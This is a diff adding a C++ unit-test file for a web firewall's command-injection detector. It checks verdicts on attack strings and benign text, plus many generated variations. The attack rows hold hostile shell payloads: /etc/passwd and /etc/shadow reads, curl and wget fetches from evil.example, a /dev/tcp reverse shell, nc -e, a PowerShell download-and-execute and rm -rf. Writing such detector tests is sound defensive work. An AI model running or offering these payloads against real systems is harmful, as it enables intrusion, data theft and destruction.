@@ -1,0 +1,178 @@
+#include "detect/analyze/cmd_injection.h"
+
+#include <gtest/gtest.h>
+
+#include "detect/core/octets.h"
+#include "tests/detect/analyze/analyze_support.h"
+
+namespace wafd::detect {
+namespace {
+
+struct Row {
+  const char* text;
+  const char* verdict;
+};
+
+constexpr Row kAttacks[] = {
+    {"127.0.0.1;cat /etc/passwd", "low"},
+    {"127.0.0.1 && cat /etc/hosts", "low"},
+    {"x | curl http://evil.example/a.sh", "low"},
+    {"1||ping -c 4 10.0.0.7||", "low"},
+    {"a;wget evil.example/x -O /tmp/x", "low"},
+    {"$(curl evil.example)", "low"},
+    {"`nslookup evil.example`", "low"},
+    {"\n/bin/cat /etc/shadow", "low"},
+    {"x|bash -i", "balanced"},
+    {"a;rm -rf /var/www", "low"},
+    {"1;echo aWQ=|base64 -d|sh", "low"},
+    {"'; ls -la /home #", "low"},
+    {"\"; uname -a; \"", "low"},
+    {"1 & type c:\\windows\\win.ini", "low"},
+    {"x|cmd /c dir", "low"},
+    {"127.0.0.1;whoami", "balanced"},
+    {"127.0.0.1 | id", "balanced"},
+    {"|ls", "balanced"},
+    {"10.0.0.1%0a|pwd", "balanced"},
+    {"$(id)", "balanced"},
+    {"`id`", "balanced"},
+    {"a.txt;sleep 10", "balanced"},
+    {"<(cat secret)", "balanced"},
+    {"${`id`}", "balanced"},
+    {";weirdtool --version", "balanced"},
+    {"f;a=x;$a /etc/passwd", "balanced"},
+    {"sort|id", "strict"},
+    {"cat /etc/passwd", "balanced"},
+    {"wget http://evil.example/x.sh", "balanced"},
+    {"bash -c id", "balanced"},
+    {"ping -c 3 evil.example", "balanced"},
+    {"powershell -enc SQBFAFgA", "balanced"},
+    {"cmd.exe /c whoami", "balanced"},
+    {"strace ifconfig", "balanced"},
+    {"Invoke-WebRequest http://evil.example/a.ps1", "balanced"},
+    {"whoami", "strict"},
+    // Disguises
+    {"x;c'a't /etc/passwd", "low"},
+    {"x;wh``oami", "balanced"},
+    {"x;who$@ami", "balanced"},
+    {"cat$IFS/etc/passwd", "balanced"},
+    {"x;cat${IFS}a.txt", "balanced"},
+    {"/?" "?" "?/c?t /etc/hosts", "balanced"},
+    {"x;/bin/c[a]t a", "balanced"},
+    {"${PATH:0:1}etc", "balanced"},
+    {"$'\\x77\\x68oami' -x", "balanced"},
+    {"x&w^h^o^a^m^i", "balanced"},
+    // Fixed shapes
+    {"() { :;}; /bin/ping x", "low"},
+    {"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "low"},
+    {"exec 5<>/dev/tcp/evil.example/80", "low"},
+    {"id > shell.php", "balanced"},
+    {"IEX(New-Object Net.WebClient).DownloadString('http://evil.example')", "balanced"},
+    {"%COMSPEC% /c dir", "balanced"},
+    {"for /f %i in (a.txt) do echo %i", "balanced"},
+    {"if not exist c:\\x.txt (del y)", "balanced"},
+};
+
+constexpr Row kBenign[] = {
+    {"R&D | sales; ls", "-"},
+    {"cat & dog", "-"},
+    {"dog & cat", "-"},
+    {"salt & pepper; bread | butter", "-"},
+    {"Tom && Jerry", "-"},
+    {"rock'n'roll", "-"},
+    {"I don't know if it's ok; find out more about us", "-"},
+    {"a < b && c > d", "-"},
+    {"AT&T", "-"},
+    {"name;id;date", "-"},
+    {"price > 100 | sort by name", "-"},
+    {"text/html; charset=utf-8", "-"},
+    {"&lt;id&gt; is &quot;x&quot;", "-"},
+    {"https://shop.example/?a=b;c=d&id=5", "-"},
+    {"$(document).ready", "-"},
+    {"$(this).find('a')", "-"},
+    {"Hello ${name}", "-"},
+    {"It costs $5; more or less", "-"},
+    {"C:\\Users\\tom\\Documents\\file.txt", "-"},
+    {"Use `ls` to list files and `cat` to read them.", "-"},
+    {"at sunrise; echo of the past", "-"},
+    {"Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", "-"},
+    {"curl/7.88.1", "-"},
+    {"Wget/1.21.3", "-"},
+    {"host: example; type: text", "-"},
+    {"function(){return a||b;}", "-"},
+    {"if (x) { print(y); }", "-"},
+    {"Error\n    at foo (a.js:1:2)\n    at bar (b.js:3:4)\n    at baz", "-"},
+    {"() => { return 1; }", "-"},
+    {"{\"id\":1,\"date\":\"2024-01-01\",\"type\":\"x;y\"}", "-"},
+    {"find the best price", "-"},
+    {"sort -- not sorted", "-"},
+    {"time to go", "-"},
+    {"java", "-"},
+    {"more info", "-"},
+    {"Вопрос: кто там; что делать", "-"},
+    {"猫 & 犬; 鳥 | 魚", "-"},
+    {"if not today then tomorrow", "-"},
+    {"for %s in the list", "-"},
+    {"SGVsbG8=;base64,AAAA", "-"},
+};
+
+TEST(CmdInjection, Attacks) {
+  const auto analyzer = make_cmd_injection_analyzer();
+  for (const Row& row : kAttacks) EXPECT_EQ(verdict_of(*analyzer, row.text), row.verdict) << row.text;
+}
+
+TEST(CmdInjection, BenignTextPassesAtBalanced) {
+  const auto analyzer = make_cmd_injection_analyzer();
+  for (const Row& row : kBenign)
+    EXPECT_FALSE(denied_at_balanced(verdict_of(*analyzer, row.text))) << row.text;
+}
+
+TEST(CmdInjection, DocumentationIsNotDeniedAtBalanced) {
+  const auto analyzer = make_cmd_injection_analyzer();
+  const std::string_view text =
+      "## Install\n\nFirst update the package list and install the server:\n\n    sudo apt-get update\n"
+      "    sudo apt-get install -y nginx\n\nThen run `systemctl restart nginx` and open the page in a "
+      "browser.\n"
+      "To see the log, use `tail -f error.log | grep -i warn`, or look at it with less.\n";
+  EXPECT_FALSE(denied_at_balanced(verdict_of(*analyzer, text, Location::kBody)));
+}
+
+TEST(CmdInjection, FileContentIsNotItsBusiness) {
+  const auto analyzer = make_cmd_injection_analyzer();
+  EXPECT_EQ(verdict_of(*analyzer, "x;cat /etc/passwd", Location::kFile), "-");
+  EXPECT_EQ(verdict_of(*analyzer, "x;cat /etc/passwd", Location::kFile, true), "low");
+}
+
+TEST(CmdInjection, VariationsStayDenied) {
+  const auto analyzer = make_cmd_injection_analyzer();
+  std::size_t made = 0;
+  for (const char* prefix : {"", "1", "127.0.0.1", "a.txt", "x'", "x\"", "-1"}) {
+    for (const char* op : {";", "|", "||", "&&", "&", "\n", " ; ", "|  ", "\n\t"}) {
+      for (const char* command : {"cat /etc/passwd", "c\"\"at /etc/passwd", "ca\\t /etc/passwd",
+                                  "/bin/cat /etc/passwd", "curl http://evil.example/", "whoami", "who''ami",
+                                  "ping -n 3 10.1.1.1", "nc -e /bin/sh 10.1.1.1 99", "head${IFS}/etc/shadow",
+                                  "python3 -c 'import os'", "ls -la", "sudo id -u", "{cat,/etc/passwd}"}) {
+        for (const char* suffix : {"", " #", ";", "||x", "\n", " & "}) {
+          const std::string text = std::string(prefix) + op + command + suffix;
+          if (std::string_view(command).starts_with("{")) continue;  // brace lists are a decoder's work
+          EXPECT_TRUE(denied_at_balanced(verdict_of(*analyzer, text))) << text;
+          ++made;
+        }
+      }
+    }
+  }
+  EXPECT_GT(made, 4000u);
+}
+
+TEST(CmdInjection, TimeIsLinearOnHostileText) {
+  const auto analyzer = make_cmd_injection_analyzer();
+  for (const char* unit : {";",       "`", "$(",      "'",   "\"", "\"$(", "${",   "a;",    "&&cat ", "if x ",
+                           "for %a ", "<", ">x.php ", "$a ", "\\", "^a",   "() {", "cat /", "*",      "/?"}) {
+    std::string text;
+    while (text.size() < 300000) text += unit;
+    verdict_of(*analyzer, text,
+               Location::kBody);  // the test's time limit is the assertion: quadratic takes minutes
+  }
+}
+
+}  // namespace
+}  // namespace wafd::detect
